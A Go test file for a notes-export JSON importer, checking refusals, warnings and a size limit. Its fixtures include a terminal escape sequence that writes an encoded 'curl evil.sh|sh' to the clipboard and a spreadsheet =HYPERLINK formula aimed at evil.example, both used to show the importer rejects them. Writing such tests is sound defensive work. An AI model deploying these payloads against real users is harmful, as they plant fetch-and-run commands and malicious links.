package notes

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

// validExport is an export of the fixture's notes, as Export writes it.
func validExport(t *testing.T) []byte {
	t.Helper()
	list, titles := exportNotes()
	var b bytes.Buffer
	if err := Export(&b, FormatJSON, list, titles); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withNote is an export holding the given JSON notes.
func withNote(notes ...string) string {
	return `{"format":"briefing-notes","version":1,"notes":[` + strings.Join(notes, ",") + `]}`
}

// note is one JSON note, good as it is, with fields replaced by extra.
func note(extra string) string {
	base := `"id":"0b6f3a52-6a2e-4c1b-9d3e-1f2a3b4c5d02","owner":"ana","brief_id":"b","section":{"kind":"lead","title":"","index":0},` +
		`"quote":"q","body":"text","created":"2026-11-26T15:04:05Z","updated":"2026-11-26T15:04:05Z"`
	if extra == "" {
		return "{" + base + "}"
	}
	// A later key wins in encoding/json: extra overrides base.
	return "{" + base + "," + extra + "}"
}

// Import never drops or changes data without a word: each of these files
// is refused as a whole, and the error says why in printable text.
func TestReadJSONRefuses(t *testing.T) {
	good := validExport(t)
	osc := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\x1b[2J"
	cases := []struct {
		name, file, want string
	}{
		{"empty", ``, "EOF"},
		{"not json", `not json`, "invalid character"},
		{"no format", `{}`, "not a briefing notes export"},
		{"newer version", `{"format":"briefing-notes","version":7,"notes":[]}`, "version 7"},
		{"two exports run together", string(good) + string(good), "a second export begins at byte"},
		{"two exports on one line", withNote(note("")) + withNote(note("")), "a second export begins at byte"},
		{"data after the export", string(good) + "]", "unexpected data after the export"},
		{"notes null", `{"format":"briefing-notes","version":1,"notes":null}`, `no "notes" list`},
		{"notes missing", `{"format":"briefing-notes","version":1}`, `no "notes" list`},
		{"UTF-16", "\xff\xfe{\x00}\x00", "UTF-16"},
		{"invalid UTF-8", withNote(note(`"body":"caf` + "\xe9" + `"`)), "not valid UTF-8"},
		{"no id", withNote(`{"owner":"a","brief_id":"b"}`), "lacks an id"},
		{"no owner", withNote(note(`"owner":""`)), "lacks an id, owner or brief_id"},
		{"control sequences in the id", withNote(note(`"id":"` + jsonEscape(osc) + `"`)), "is not a note ID"},
		{"formula in the id", withNote(note(`"id":"=HYPERLINK(\"http://evil.example\",\"x\")"`)), "is not a note ID"},
		{"uppercase id", withNote(note(`"id":"0B6F3A52-6A2E-4C1B-9D3E-1F2A3B4C5D02"`)), "is not a note ID"},
		{"formula in the section kind", withNote(note(`"section":{"kind":"=HYPERLINK(\"http://evil.example\")","index":0}`)), "section kind"},
		{"control sequences in the section kind", withNote(note(`"section":{"kind":"` + jsonEscape(osc) + `","index":0}`)), "section kind"},
		{"unknown section kind", withNote(note(`"section":{"kind":"why","index":0}`)), "not one of lead, why_it_matters"},
		{"negative section index", withNote(note(`"section":{"kind":"lead","index":-1}`)), "section index -1"},
		{"created past the range", withNote(note(`"created":"9999-12-31T00:00:00Z"`)), "created 9999-12-31"},
		{"updated before the range", withNote(note(`"updated":"1600-01-01T00:00:00Z"`)), "updated 1600-01-01"},
		{"one id, two contents", withNote(note(""), note(`"body":"other text"`)), "notes 1 and 2 have the same id"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			list, warnings, err := ReadJSON(strings.NewReader(tc.file))
			if err == nil {
				t.Fatalf("read %d notes, warnings %q; want an error", len(list), warnings)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not say %q", err, tc.want)
			}
			if strings.ContainsFunc(err.Error(), func(r rune) bool { return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) }) {
				t.Errorf("error carries control characters: %q", err)
			}
			if list != nil {
				t.Errorf("a refused file gave notes: %+v", list)
			}
		})
	}
	// A value a store would refuse wraps ErrInvalid, so a caller can tell.
	_, _, err := ReadJSON(strings.NewReader(withNote(note(`"created":"9999-12-31T00:00:00Z"`))))
	if !errors.Is(err, ErrInvalid) {
		t.Errorf("out-of-range date: %v does not wrap ErrInvalid", err)
	}
}

// What a file holds that is read otherwise than it is written comes with a
// warning that counts it; the rest is read exactly.
func TestReadJSONWarns(t *testing.T) {
	good := validExport(t)
	want, _, err := ReadJSON(bytes.NewReader(good))
	if err != nil || len(want) != 4 {
		t.Fatalf("the fixture: %d notes, %v", len(want), err)
	}
	undated := note(`"created":"0001-01-01T00:00:00Z","updated":"0001-01-01T00:00:00Z"`)
	cases := []struct {
		name  string
		file  string
		notes int
		warn  []string
	}{
		{"as exported", string(good), 4, nil},
		{"trailing white space", string(good) + "\n\r\n  \t", 4, nil},
		{"empty list", `{"format":"briefing-notes","version":1,"notes":[]}`, 0, nil},
		{"byte order mark", "\xef\xbb\xbf" + string(good), 4, []string{"byte order mark, which was skipped"}},
		{"a note twice", withNote(note(""), note("")), 1, []string{"1 note was listed again"}},
		{"a note three times", withNote(note(""), note(""), note("")), 1, []string{"2 notes were listed again"}},
		{"no creation time", withNote(undated), 1, []string{"1 note has no creation time"}},
		{"all of it", "\xef\xbb\xbf" + withNote(undated, undated, note(`"id":"0b6f3a52-6a2e-4c1b-9d3e-000000000000","created":"0001-01-01T00:00:00Z"`)), 2,
			[]string{"byte order mark", "1 note was listed again", "2 notes have no creation time"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			list, warnings, err := ReadJSON(strings.NewReader(tc.file))
			if err != nil {
				t.Fatal(err)
			}
			if len(list) != tc.notes {
				t.Errorf("read %d notes, want %d", len(list), tc.notes)
			}
			if len(warnings) != len(tc.warn) {
				t.Fatalf("warnings %q, want %q", warnings, tc.warn)
			}
			for i, w := range tc.warn {
				if !strings.Contains(warnings[i], w) {
					t.Errorf("warning %q does not say %q", warnings[i], w)
				}
			}
		})
	}
	// The byte order mark changes nothing else.
	got, _, err := ReadJSON(strings.NewReader("\xef\xbb\xbf" + string(good)))
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if !sameContent(got[i], want[i]) {
			t.Errorf("with a byte order mark, note %d is %+v, want %+v", i, got[i], want[i])
		}
	}
}

// A file over the size limit is refused before it is held whole; one at
// the limit is read.
func TestReadJSONSizeLimit(t *testing.T) {
	file := withNote(note(""))
	if _, _, err := readJSON(strings.NewReader(file), int64(len(file))); err != nil {
		t.Errorf("a file at the limit: %v", err)
	}
	_, _, err := readJSON(strings.NewReader(file+" "), int64(len(file)))
	if err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("a file over the limit: %v", err)
	}
}

// jsonEscape writes s as the inside of a JSON string, controls as \u escapes.
func jsonEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&0xf])
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}
